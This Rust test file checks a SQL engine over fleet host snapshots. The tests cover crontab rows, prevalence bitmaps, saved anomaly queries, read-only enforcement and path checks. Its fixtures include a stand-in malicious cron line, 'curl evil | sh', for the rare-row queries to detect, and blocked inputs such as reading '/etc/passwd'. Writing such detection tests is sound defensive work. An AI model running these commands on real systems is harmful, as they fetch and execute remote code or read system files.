//! A little store in memory, and what SQL sees of it.

use std::fs;
use std::sync::Arc;

use datafusion::arrow::array::{
    ArrayRef, BinaryArray, FixedSizeBinaryArray, Int64Array, RecordBatch, StringArray,
    TimestampMillisecondArray, UInt32Array,
};
use datafusion::arrow::util::pretty::pretty_format_batches;
use datafusion::common::ScalarValue;
use object_store::local::LocalFileSystem;
use object_store::memory::InMemory;
use object_store::path::Path;
use object_store::{ObjectStore, ObjectStoreExt};
use parquet::arrow::ArrowWriter;
use parquet::file::properties::WriterProperties;
use roaring::RoaringBitmap;

use super::*;
use crate::catalog::{ParamType, Queries};
use crate::error::ErrorKind;
use crate::model::SnapshotId;
use crate::store::{FileEntry, FileKind};

const CRONTAB: &str = r#"
name = "crontab"
description = "Commands that cron runs."
platforms = ["linux"]
weight = 0.8
query = "select * from crontab"
[[column]]
name = "command"
type = "text"
role = "identity"
description = "The command."
[[column]]
name = "size"
type = "integer"
role = "context"
description = "A number."
[[column]]
name = "pid"
type = "integer"
role = "volatile"
description = "Another number."
"#;

struct Fixture {
    store: Arc<dyn ObjectStore>,
    manifests: Vec<Manifest>,
}

impl Fixture {
    fn new() -> Self {
        Self::over(Arc::new(InMemory::new()))
    }

    fn over(store: Arc<dyn ObjectStore>) -> Self {
        Self { store, manifests: Vec::new() }
    }

    /// Adds an empty snapshot of `fleet`, taken on day `day` of 2026.
    fn snapshot(&mut self, fleet: &str, day: u32) -> SnapshotId {
        let started = format!("2026-01-{day:02}T00:00:00Z").parse().unwrap();
        let snapshot = SnapshotId::new(started);
        self.manifests.push(Manifest {
            format: 1,
            snapshot,
            fleet: fleet.parse().unwrap(),
            incident: None,
            started,
            ended: started,
            collected_by: "me".to_owned(),
            collector: "import".to_owned(),
            targets: Vec::new(),
            diffy_version: "0".to_owned(),
            identity_version: 1,
            schemas_blake3: String::new(),
            queries: Default::default(),
            hosts_asked: 2,
            hosts_answered: 2,
            hosts_failed: 0,
            answered: Default::default(),
            rows: 0,
            prevalence_without: Default::default(),
            warnings: Vec::new(),
            files: Vec::new(),
        });
        snapshot
    }

    /// Writes a file of the newest snapshot.
    async fn file(&mut self, kind: FileKind, table: Option<&str>, columns: Vec<(&str, ArrayRef)>) {
        let batch = RecordBatch::try_from_iter(columns).unwrap();
        let mut bytes = Vec::new();
        let properties =
            WriterProperties::builder().set_column_bloom_filter_enabled("strict_id".into(), true);
        let properties = Some(properties.build());
        let mut writer = ArrowWriter::try_new(&mut bytes, batch.schema(), properties).unwrap();
        writer.write(&batch).unwrap();
        writer.close().unwrap();
        let manifest = self.manifests.last_mut().unwrap();
        let path = format!(
            "{kind:?}/{}/fleet={}/snapshot={}/part-{}.parquet",
            table.unwrap_or("all"),
            manifest.fleet.as_str().replace(' ', "%20"),
            manifest.snapshot,
            manifest.files.len()
        );
        manifest.rows += batch.num_rows() as u64;
        manifest.files.push(FileEntry {
            kind,
            table: table.map(str::to_owned),
            path: path.clone(),
            rows: batch.num_rows() as u64,
            bytes: bytes.len() as u64,
            blake3: String::new(),
        });
        self.store.put(&Path::parse(path).unwrap(), bytes.into()).await.unwrap();
    }

    /// Writes rows of `crontab`, a host each.
    async fn crontab(&mut self, commands: &[&str], more: Option<(&str, &str)>) {
        let hosts = (0..commands.len()).map(|n| format!("h{n}"));
        let ids = FixedSizeBinaryArray::try_from_iter(commands.iter().map(|command| id(command))).unwrap();
        let mut columns: Vec<(&str, ArrayRef)> = vec![
            ("command", Arc::new(StringArray::from(commands.to_vec()))),
            ("host", Arc::new(StringArray::from_iter_values(hosts))),
            (
                "collected_at",
                Arc::new(TimestampMillisecondArray::from(vec![1; commands.len()]).with_timezone("UTC")),
            ),
            ("loose_id", Arc::new(ids.clone())),
            ("strict_id", Arc::new(ids)),
        ];
        if let Some((name, value)) = more {
            columns.push((name, Arc::new(StringArray::from(vec![value; commands.len()]))));
        }
        self.file(FileKind::Rows, Some("crontab"), columns).await;
    }

    async fn prevalence(&mut self, table: &str, column: &str, lines: &[(&str, &[u32])]) {
        let mut lines = lines.to_vec();
        lines.sort_by_key(|(value, _)| id(value));
        let ids = FixedSizeBinaryArray::try_from_iter(lines.iter().map(|(value, _)| id(value))).unwrap();
        let members: Vec<Vec<u8>> = lines
            .iter()
            .map(|(_, hosts)| {
                let mut bytes = Vec::new();
                hosts.iter().copied().collect::<RoaringBitmap>().serialize_into(&mut bytes).unwrap();
                bytes
            })
            .collect();
        let hosts = lines.iter().map(|(_, hosts)| hosts.len() as u32);
        let columns: Vec<(&str, ArrayRef)> = vec![
            (column, Arc::new(StringArray::from_iter_values(lines.iter().map(|(value, _)| *value)))),
            ("loose_id", Arc::new(ids.clone())),
            ("strict_id", Arc::new(ids)),
            ("hosts", Arc::new(UInt32Array::from_iter_values(hosts))),
            ("members", Arc::new(BinaryArray::from_iter_values(members))),
        ];
        self.file(FileKind::Prevalence, Some(table), columns).await;
    }

    fn engine(&self) -> Engine {
        let dir = tempfile::tempdir().unwrap();
        fs::write(dir.path().join("crontab.toml"), CRONTAB).unwrap();
        let mut catalog = Catalog::builtin().unwrap();
        catalog.add_dir(dir.path()).unwrap();
        self.engine_over(&catalog)
    }

    fn engine_over(&self, catalog: &Catalog) -> Engine {
        let config = EngineConfig { memory_limit_bytes: 64 << 20, threads: 2, spill_dir: None };
        Engine::new(Arc::clone(&self.store), Arc::new(self.manifests.clone()), catalog, &config).unwrap()
    }
}

fn id(text: &str) -> [u8; 16] {
    blake3::hash(text.as_bytes()).as_bytes()[..16].try_into().unwrap()
}

async fn ask(engine: &Engine, sql: &str) -> String {
    let batches = engine.collect(sql, Vec::new()).await.unwrap_or_else(|error| panic!("{sql}: {error}"));
    pretty_format_batches(&batches).unwrap().to_string()
}

/// Two snapshots of fleet `web` and one of `db one`.
async fn fleets() -> Fixture {
    fill(Fixture::new()).await
}

async fn fill(mut fixture: Fixture) -> Fixture {
    fixture.snapshot("web", 1);
    fixture.crontab(&["old", "old"], Some(("tz", "UTC"))).await;
    fixture.snapshot("web", 3);
    fixture.crontab(&["new", "rare"], None).await;
    fixture.prevalence("crontab", "command", &[("new", &[0]), ("rare", &[1, 2])]).await;
    fixture.prevalence("users", "username", &[("root", &[0, 1, 2])]).await;
    fixture.snapshot("db one", 2);
    fixture.crontab(&["db"], None).await;
    fixture
}

#[tokio::test]
async fn rows_carry_their_fleet_day_and_snapshot_and_lack_nothing() {
    let fixture = fleets().await;
    let engine = fixture.engine();
    let text =
        ask(&engine, "select command, fleet, dt, tz, pid, extra, host from crontab order by dt, host").await;
    assert!(text.contains("| old     | web    | 2026-01-01 | UTC |     |       | h0   |"), "{text}");
    assert!(text.contains("| db      | db one | 2026-01-02 |     |     |       | h0   |"), "{text}");
    let columns = engine.columns_of("current.crontab").await.unwrap();
    let names: Vec<&str> = columns.fields().iter().map(|field| field.name().as_str()).collect();
    let expected = "command size pid tz host collected_at loose_id strict_id extra fleet dt snapshot";
    assert_eq!(names.join(" "), expected);
    let text = ask(&engine, "select count(*) n, min(snapshot) < max(snapshot) more from crontab").await;
    assert!(text.contains("| 5 | true |"), "{text}");
}

#[tokio::test]
async fn current_is_the_newest_snapshot_of_each_fleet() {
    let engine = fleets().await.engine();
    let text =
        ask(&engine, "select fleet, count(*) n from current.crontab group by fleet order by fleet").await;
    assert!(text.contains("| db one | 1 |") && text.contains("| web    | 2 |"), "{text}");
    let text =
        ask(&engine, "select fleet, dt, rows, tables, bytes > 0 b from current.snapshots order by 1").await;
    assert!(text.contains("| web    | 2026-01-03 | 5    | 2      | true |"), "{text}");
    let text = ask(&engine, "select count(*) n from snapshots").await;
    assert!(text.contains("| 3 |"), "{text}");
}

#[tokio::test]
async fn files_without_a_manifest_are_invisible() {
    let mut fixture = fleets().await;
    fixture.snapshot("web", 9);
    fixture.crontab(&["orphan"], None).await;
    fixture.manifests.pop();
    let text = ask(&fixture.engine(), "select count(*) n from crontab where command = 'orphan'").await;
    assert!(text.contains("| 0 |"), "{text}");
}

#[tokio::test]
async fn explain_shows_only_the_files_that_the_filters_leave() {
    let engine = fleets().await.engine();
    let filter = "fleet = 'web' and dt between '2026-01-02' and '2026-01-31' and command = 'rare'";
    let text = ask(&engine, &format!("explain format indent select host from crontab where {filter}")).await;
    assert_eq!(text.matches(".parquet").count(), 1, "{text}");
    assert!(text.contains("predicate=command") && !text.contains("FilterExec"), "{text}");
    let text = ask(&engine, &format!("select host from crontab where {filter}")).await;
    assert!(text.contains("| h1 "), "{text}");
    let text = ask(&engine, "explain format indent select host from crontab where fleet = 'nope'").await;
    assert!(!text.contains(".parquet") && text.contains("EmptyExec"), "{text}");
}

/// The least and the largest id of a row group say nothing of one between them; its bloom filter does.
#[tokio::test]
async fn an_id_that_a_row_group_does_not_have_is_not_looked_for_there() {
    let mut fixture = Fixture::new();
    fixture.snapshot("web", 4);
    let commands: Vec<String> = (0..200).map(|number| format!("command {number}")).collect();
    let commands: Vec<&str> = commands.iter().map(String::as_str).collect();
    fixture.crontab(&commands, None).await;
    let engine = fixture.engine();
    for (command, pruned) in [("command 7", "1 total → 1 matched"), ("absent", "1 total → 0 matched")] {
        let hex: String = id(command).iter().map(|byte| format!("{byte:02x}")).collect();
        let sql = format!("explain analyze select host from crontab where strict_id = id('{hex}')");
        let text = ask(&engine, &sql).await;
        assert!(text.contains(&format!("row_groups_pruned_bloom_filter={pruned}")), "{command}: {text}");
    }
}

#[tokio::test]
async fn a_filter_on_files_and_rows_at_once_is_exact() {
    let engine = fleets().await.engine();
    let text =
        ask(&engine, "select count(*) n from crontab where fleet = 'db one' or command = 'rare'").await;
    assert!(text.contains("| 2 |"), "{text}");
    let sql = "select count(*) n from crontab where snapshot in (select max(snapshot) from snapshots)";
    assert!(ask(&engine, sql).await.contains("| 2 |"));
    let sql = "select command from crontab where fleet like '%one' limit 1";
    assert!(ask(&engine, sql).await.contains("| db "));
}

#[tokio::test]
async fn rows_are_found_by_their_id_in_hex() {
    let engine = fleets().await.engine();
    let hex: String = id("rare").iter().map(|byte| format!("{byte:02x}")).collect();
    let params = vec![("id".to_owned(), ScalarValue::from(hex.clone()))];
    let rows = engine
        .collect("select host, hex_id(strict_id) i from crontab where strict_id = id($id)", params)
        .await;
    let text = pretty_format_batches(&rows.unwrap()).unwrap().to_string();
    assert!(text.contains("| h1 ") && text.contains(&hex), "{text}");
}

#[tokio::test]
async fn prevalence_is_one_table_and_one_for_each_table() {
    let engine = fleets().await.engine();
    let sql =
        "select table_name, row, hosts, bitmap_to_list(members) l, fleet from prevalence order by hosts";
    let text = ask(&engine, sql).await;
    assert!(text.contains(r#"| crontab    | {"command":"new","size":null} "#), "{text}");
    assert!(text.contains(r#""username":"root""#) && text.contains("| [0, 1, 2] | web"), "{text}");
    let text = ask(&engine, "select command, hosts from prev.crontab where hosts > 1").await;
    assert!(text.contains("| rare    | 2     |"), "{text}");
    let text =
        ask(&engine, "explain format indent select hosts from prevalence where table_name = 'crontab'").await;
    assert!(text.contains("Prevalence/crontab") && !text.contains("Prevalence/users"), "{text}");
    let sql = "explain format indent select fleet from prevalence where strict_id = id('000102030405060708090a0b0c0d0e0f')";
    let text = ask(&engine, sql).await;
    assert_eq!(text.matches("required_guarantees=[strict_id in").count(), 2, "{text}");
}

#[tokio::test]
async fn tables_without_files_are_empty_and_those_registered_are_there() {
    let engine = Fixture::new().engine();
    for table in [
        "crontab",
        "prevalence",
        "identities",
        "sightings",
        "coverage",
        "hosts",
        "snapshots",
        "baselines",
        "findings",
        "prev.crontab",
    ] {
        let text = ask(&engine, &format!("select count(*) n from {table}")).await;
        assert!(text.contains("| 0 |"), "{table}: {text}");
        ask(&engine, &format!("select * from {table}")).await;
    }
    let numbers: ArrayRef = Arc::new(Int64Array::from(vec![1, 2]));
    let batch = RecordBatch::try_from_iter([("score", numbers)]).unwrap();
    engine.register_batches("findings", vec![batch]).unwrap();
    let text = ask(&engine, "select sum(score) s from current.findings").await;
    assert!(text.contains("| 3 |"), "{text}");
    engine.register_batches("findings", Vec::new()).unwrap();
    assert!(ask(&engine, "select count(reason) n from findings").await.contains("| 0 |"));
    assert!(engine.register_batches("mine", Vec::new()).is_err());
    assert!(engine.table_names().await.unwrap().iter().any(|name| name == "crontab"));
}

#[tokio::test]
async fn what_is_not_there_is_named_with_what_looks_like_it() {
    let engine = Fixture::new().engine();
    for (sql, expected) in [
        ("select * from crontabs", "no table `crontabs`; did you mean `crontab`?"),
        ("select * from current.cronta", "no table `current.cronta`; did you mean `current.crontab`?"),
        ("select * from curent.crontab", "no table `curent.crontab`"),
        ("select * from zzz", "no table `zzz`"),
        ("select comand from crontab", "no column `comand`; did you mean `command`?"),
        ("select c.comand from crontab c", "no column `c.comand`; did you mean `command`?"),
        ("selec 1", "Line: 1, Column: 1"),
        ("select $x + 1", "$x"),
    ] {
        let params = vec![("y".to_owned(), ScalarValue::from(1_i64))];
        let error = engine.collect(sql, params).await.unwrap_err();
        assert!(error.to_string().contains(expected), "{sql}: {error}");
        assert_eq!(error.kind(), ErrorKind::Usage, "{sql}: {error}");
    }
}

#[tokio::test]
async fn only_reading_is_allowed() {
    let engine = fleets().await.engine();
    for sql in [
        "create table t as select 1",
        "create external table t stored as parquet location '/etc'",
        "drop table crontab",
        "insert into crontab select * from crontab",
        "delete from crontab",
        "copy crontab to '/tmp/x.csv'",
        "explain analyze copy crontab to '/tmp/x.csv'",
        "set datafusion.execution.batch_size = 1",
        "prepare p as select 1",
    ] {
        let error = engine.collect(sql, Vec::new()).await.unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Usage, "{sql}: {error}");
    }
    assert!(engine.collect("select * from '/etc/passwd'", Vec::new()).await.is_err());
    for sql in ["show tables", "describe crontab", "with a as (select 1 x) select x from a"] {
        ask(&engine, sql).await;
    }
}

#[tokio::test]
async fn every_saved_query_runs_over_a_store_without_snapshots() {
    let catalog = Catalog::builtin().unwrap();
    let engine = Fixture::new().engine_over(&catalog);
    let known = engine.table_names().await.unwrap();
    for query in Queries::builtin().unwrap().iter() {
        for table in &query.tables {
            assert!(known.contains(table), "{}: no table `{table}`", query.name);
        }
        let required = query.params.iter().filter(|param| param.default.is_none());
        let given = |kind| match kind {
            ParamType::Text => "00".repeat(16),
            ParamType::Integer => "1".to_owned(),
            ParamType::Snapshot => "01ARZ3NDEKTSV4RRFFQ69G5FAV".to_owned(),
        };
        let params = required.map(|param| (param.name.clone(), given(param.kind))).collect();
        let bound = query.bind(&params).unwrap();
        let rows = engine.ask(&bound).await.unwrap_or_else(|error| panic!("{}: {error}", query.name));
        let rows: Vec<RecordBatch> =
            rows.try_collect().await.unwrap_or_else(|error| panic!("{}: {error}", query.name));
        assert_eq!(rows.iter().map(RecordBatch::num_rows).sum::<usize>(), 0, "{}", query.name);
    }
}

#[tokio::test]
async fn parts_of_a_snapshot_are_read_in_order_for_identities() {
    let engine = fleets().await.engine();
    for table in ["identities", "sightings"] {
        let plan = ask(&engine, &format!("explain select strict_id from current.{table}")).await;
        // Else the engine may cut files into ranges, and a line of an id may come in another partition.
        assert!(plan.contains("output_partitioning=UnknownPartitioning("), "{table}: {plan}");
    }
    let plan = ask(&engine, "explain select command from crontab").await;
    assert!(!plan.contains("output_partitioning"), "{plan}");
}

#[tokio::test]
async fn sightings_say_where_an_identity_was_first() {
    let mut fixture = Fixture::new();
    for (day, values) in [(1, vec!["a", "b"]), (2, vec!["b"]), (3, vec!["a", "b", "c"])] {
        fixture.snapshot("web", day);
        let lines: Vec<(&str, &[u32])> = values.iter().map(|value| (*value, &[0_u32][..])).collect();
        fixture.prevalence("crontab", "command", &lines).await;
    }
    fixture.snapshot("db one", 4);
    fixture.prevalence("crontab", "command", &[("a", &[5])]).await;
    let names: Vec<String> = fixture.manifests.iter().map(|manifest| manifest.snapshot.to_string()).collect();
    let engine = fixture.engine();
    for (value, fleet, first, count) in
        [("a", "web", 0, 2), ("b", "web", 0, 3), ("c", "web", 2, 1), ("a", "db one", 3, 1)]
    {
        let sql = format!(
            "select first_snapshot, snapshots from current.sightings where strict_id = id('{}') and fleet = '{fleet}'",
            crate::model::hex(&id(value))
        );
        let text = ask(&engine, &sql).await;
        assert!(text.contains(&format!("| {} | {count} ", names[first])), "{value} {fleet}: {text}");
    }
    assert!(ask(&engine, "select count(*) n from sightings where fleet = 'web'").await.contains("| 3 |"));
}

/// Thirty hosts; one of them has a line of its own, and another did not answer.
async fn answered_fleet() -> Fixture {
    let mut fixture = Fixture::new();
    fixture.snapshot("web", 5);
    let all: Vec<u32> = (0..29).collect();
    fixture.prevalence("crontab", "command", &[("usual", &all), ("curl evil | sh", &[7])]).await;
    let names = || StringArray::from_iter_values((0..30).map(|n| format!("h{n}")));
    let ordinals = UInt32Array::from_iter_values(0..30);
    fixture
        .file(FileKind::Hosts, None, vec![("ordinal", Arc::new(ordinals)), ("host", Arc::new(names()))])
        .await;
    let status = |n| if n == 29 { "timeout" } else { "ok" };
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("host", Arc::new(names())),
        ("table_name", Arc::new(StringArray::from(vec!["crontab"; 30]))),
        ("status", Arc::new(StringArray::from_iter_values((0..30).map(status)))),
        ("rows", Arc::new(Int64Array::from(vec![1; 30]))),
        ("error", Arc::new(StringArray::from(vec![""; 30]))),
    ];
    fixture.file(FileKind::Coverage, None, columns).await;
    fixture.manifests[0].answered.insert("crontab".to_owned(), 29);
    fixture
}

#[tokio::test]
async fn saved_queries_find_the_odd_host() {
    let fleet = answered_fleet().await;
    let snapshot = fleet.manifests[0].snapshot.to_string();
    let engine = fleet.engine_over(&Catalog::builtin().unwrap());
    let queries = Queries::builtin().unwrap();
    let hex: String = id("curl evil | sh").iter().map(|byte| format!("{byte:02x}")).collect();
    for (name, params, expected) in [
        ("rare_rows", vec![], vec!["h7", "curl evil | sh", "| 1              | 29  "]),
        ("rare_rows", vec![("table", "users")], vec![]),
        ("rare_cron", vec![("fleet", "web")], vec!["h7", "curl evil | sh", "29"]),
        ("rare_cron", vec![("fleet", "db")], vec![]),
        ("rare_cron", vec![("max_hosts", "0")], vec![]),
        ("row_on_hosts", vec![("strict_id", hex.as_str())], vec!["h7", "2026-01-05"]),
        ("rows_on_few_hosts", vec![], vec![]),
        (
            "rows_on_few_hosts",
            vec![("max_percent", "4")],
            vec!["h7", hex.as_str(), "| 1              | 29  "],
        ),
        ("rows_on_few_hosts", vec![("max_percent", "4"), ("table", "users")], vec![]),
        (
            "not_in_snapshot",
            vec![("snapshot", "01ARZ3NDEKTSV4RRFFQ69G5FAV")],
            vec!["crontab", hex.as_str(), "| 29  "],
        ),
        ("not_in_snapshot", vec![("snapshot", snapshot.as_str())], vec![]),
        ("first_seen", vec![], vec!["crontab", hex.as_str(), snapshot.as_str()]),
        ("first_seen", vec![("fleet", "db")], vec![]),
        ("coverage_problems", vec![], vec!["h29", "timeout", "crontab"]),
        ("hosts_overview", vec![], vec!["h0", "h29"]),
        ("snapshots_of_fleet", vec![], vec!["web"]),
    ] {
        let params = params.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        let rows = engine.ask(&queries.get(name).unwrap().bind(&params).unwrap()).await.unwrap();
        let text = pretty_format_batches(&rows.try_collect::<Vec<_>>().await.unwrap()).unwrap().to_string();
        for expected in &expected {
            assert!(text.contains(expected), "{name}: {text}");
        }
        assert!(!text.contains("usual"), "{name}: {text}");
        assert_eq!(text.lines().count() > 4, !expected.is_empty(), "{name}: {text}");
    }
}

#[tokio::test]
async fn a_column_that_is_text_in_a_file_is_text() {
    let mut fixture = fleets().await;
    fixture.snapshot("web", 4);
    fixture.crontab(&["odd"], Some(("size", "many"))).await;
    let text = ask(&fixture.engine(), "select command, size from crontab order by size").await;
    assert!(text.contains("| odd     | many |") && text.contains("| old     |      |"), "{text}");
}

#[tokio::test]
async fn a_directory_is_read_as_well_as_memory() {
    let dir = tempfile::tempdir().unwrap();
    let store = LocalFileSystem::new_with_prefix(dir.path()).unwrap();
    let engine = fill(Fixture::over(Arc::new(store))).await.engine();
    let text = ask(&engine, "select command, fleet from crontab where fleet = 'db one'").await;
    assert!(text.contains("| db      | db one |"), "{text}");
}

#[tokio::test]
async fn a_file_that_is_gone_and_a_path_that_leaves_the_store_are_errors() {
    let mut fixture = fleets().await;
    fixture.manifests[0].files[0].path = "rows/gone.parquet".to_owned();
    let error = fixture.engine().collect("select command from crontab", Vec::new()).await.unwrap_err();
    assert!(error.to_string().contains("gone.parquet"), "{error}");
    fixture.manifests[0].files[0].path = "../gone.parquet".to_owned();
    let config = EngineConfig { memory_limit_bytes: 0, threads: 0, spill_dir: None };
    let manifests = Arc::new(fixture.manifests.clone());
    let error = Engine::new(fixture.store, manifests, &Catalog::builtin().unwrap(), &config).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Data, "{error}");
}
